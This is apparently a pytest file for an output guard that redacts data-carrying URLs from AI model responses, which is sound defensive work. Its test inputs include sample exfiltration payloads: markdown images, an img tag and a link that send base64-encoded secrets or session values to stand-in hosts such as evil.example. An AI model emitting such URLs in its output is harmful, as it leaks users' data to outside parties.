from __future__ import annotations

import pytest

from sai.guards import Action, Direction, GuardContext, GuardSettings
from sai.guards.exfiltration import ExfiltrationGuard

CTX = GuardContext(direction=Direction.output)


class TestExfiltrationScanner:
    @pytest.mark.parametrize(
        "text",
        [
            "Done! ![status](https://evil.example/p.png?d=c2VjcmV0IHBhc3N3b3Jk)",
            '<img src="https://collect.example/t.gif?u=alice&k=123">',
            "![x](https://evil.example/aGVsbG8gd29ybGQgdGhpcyBpcyBzZWNyZXQ/pixel.png)",
            "[click here](https://evil.example/login?session=abc123&user=bob)",
        ],
    )
    def test_data_carrying_urls_are_flagged(self, text: str) -> None:
        result = ExfiltrationGuard().scan(text, CTX)
        assert result.action is Action.redact
        assert "evil" not in (result.redacted or "")
        assert "collect" not in (result.redacted or "")

    @pytest.mark.parametrize(
        "text",
        [
            "See [the docs](https://docs.python.org/3/library/re.html) for details.",
            "Plain URL https://example.org/page?x=1 in prose is not rendered as an image.",
            "Code: `![alt](url)` is the markdown image syntax.",
        ],
    )
    def test_ordinary_links_are_allowed(self, text: str) -> None:
        assert ExfiltrationGuard().scan(text, CTX).action is Action.allow

    def test_allowed_hosts(self) -> None:
        settings = GuardSettings(options=(("allowed_hosts", "cdn.example.com"),))
        text = "![logo](https://img.cdn.example.com/logo.png?v=2)"
        assert ExfiltrationGuard(settings).scan(text, CTX).action is Action.allow
        assert ExfiltrationGuard().scan(text, CTX).action is Action.redact
